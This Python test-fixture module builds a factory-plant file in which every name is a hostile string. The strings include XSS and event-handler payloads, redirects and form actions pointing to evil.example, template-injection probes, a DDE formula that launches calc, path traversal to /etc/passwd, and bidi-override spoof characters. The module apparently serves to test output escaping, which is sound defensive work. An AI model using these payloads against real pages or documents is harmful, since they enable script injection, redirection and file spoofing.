"""Texts that attack whoever shows them, and a plant whose every name is one of them."""

from __future__ import annotations

import json
from pathlib import Path

PAYLOADS = (
    "<script>window.pwned=1</script>",
    "</title><script>window.pwned=2</script>",
    '"><img src=x onerror=window.pwned=3>',
    "'><svg onload=window.pwned=4>",
    '<a href="javascript:window.pwned=5">click</a>',
    "<iframe srcdoc='<script>parent.pwned=6</script>'></iframe>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>Go</button></form>",
    "{{ 7*7 }}{% for x in range(9) %}x{% endfor %}${7*7}#{7*7}<%= 7*7 %>",
    "</textarea></option></select></pre></svg><script>window.pwned=7</script>",
    "<!-- --><![CDATA[<script>window.pwned=8</script>]]>",
    "&lt;script&gt;window.pwned=9&lt;/script&gt;&#60;b&#62;",
    "javascript:window.pwned=10//",
    "' onmouseover=window.pwned=11 autofocus onfocus=window.pwned=12 x='",
    '" hx-get="//evil.example" hx-trigger="load" data-hx-on:click="window.pwned=13" x="',
    "<div hx-get='//evil.example' hx-trigger='load' hx-on:load='window.pwned=14'></div>",
    "<math><mtext><img src=x onerror=window.pwned=15></mtext></math>",
    '=HYPERLINK("//evil.example","click")',
    "+cmd|' /C calc'!A0 -1+1 @SUM(1)",
    "%3Cscript%3Ewindow.pwned=16%3C/script%3E \\u003cscript\\u003e \\x3cscript\\x3e",
    "data: x id: 9 event: ended retry: 1",
    "{name} {n} {} {0.__class__} %s %(x)d {{name}}",
    "مرحبا שלום مصنع",
    "a" * 60 + "\u0301" * 60,
    "W" * 400,
    "\U0001f3ed\u200d\U0001f525 ｆｕｌｌ ﷽ 𒐫",
    "../../etc/passwd\u00a0%00 C:\\NUL",
)  # fmt: skip
"""Markup, templates, formulas, addresses, orders to the scripts that we use, other directions of writing, sizes."""

UNSEEN = (
    "\u202etxt.exe",
    "\u2066\u2067\u2068x\u2069",
    "\u200b\u200e\u200f\u2060",
    "a\u0000b",
    "\u001b[31mred",
    "x\u2028y\u2029z",
    "\ufeff",
)
"""Characters that are not seen or turn what follows; nothing that is kept may hold them."""


def hostile_plant(folder: Path) -> Path:
    """A plant file of two lines whose names are attacks; the file."""
    names = iter(PAYLOADS * 3)

    def station(number: int) -> dict:
        row = {"id": f"s{number}", "name": next(names), "kind": "machine", "cycle": "1 s"}
        fails = [{"id": "jam", "after": "exponential(500 cycles)", "repair": "3 min", "repaired_by": "fitters"}]
        return row | ({"fails": fails} if number % 2 else {}) | ({"buffer": 5} if number else {})

    half = len(PAYLOADS) // 2
    roles = [
        {
            "id": "administrator",
            "name": next(names),
            "may": ["see_plant", "see_journal", "see_people", "manage_people"],
        },
        {
            "id": "shift-lead",
            "name": next(names),
            "may": ["see_plant", "see_journal", "see_people", "try_changes", "report_production", "correct"],
        },
        {"id": "writer", "name": PAYLOADS[3], "may": ["see_plant", "write_documents"]},
        {"id": "approver", "name": PAYLOADS[4], "may": ["see_plant", "approve_documents", "read_documents"]},
        {"id": "keeper", "name": PAYLOADS[5], "may": ["see_plant", "receive_stock", "move_stock"]},
        {"id": "releaser", "name": PAYLOADS[6], "may": ["see_plant", "release_stock", "destroy_stock"]},
        {"id": "counter", "name": PAYLOADS[7], "may": ["see_plant", "count_stock"]},
        {"id": "bookkeeper", "name": PAYLOADS[8], "may": ["see_plant", "adjust_stock", "ship_stock"]},
    ]
    document = {
        "fabrika": 1,
        "plant": {"id": "hostile", "name": PAYLOADS[0], "facts": [{"text": next(names), "source": next(names)}]},
        "areas": [{"id": "hall", "name": next(names)}],
        "products": [{"id": "a", "name": next(names)}],
        "crews": [{"id": "fitters", "name": PAYLOADS[2], "size": 1}],
        "roles": roles,
        "materials": [{"id": "tin", "name": PAYLOADS[9]}],
        "locations": [
            {"id": word, "name": PAYLOADS[10 + number], "holds": word}
            for number, word in enumerate(("stock", "line", "quarantine", "scrap"))
        ],
        "containers": [{"id": "tray", "name": PAYLOADS[13], "capacity": 500}],
        "levers": [{"id": "faster", "name": next(names), "change": "one.s1.cycle", "to": "0.5 s"}],
        "lines": [
            {"id": line, "name": next(names), "area": "hall", "sequence": [{"product": "a", "quantity": 1000}],
             "stations": [station(number) for number in range(half)]}
            for line in ("one", "two")
        ],
    }  # fmt: skip
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "plant.yaml"
    path.write_text(json.dumps(document, indent=1), encoding="utf-8")
    return path
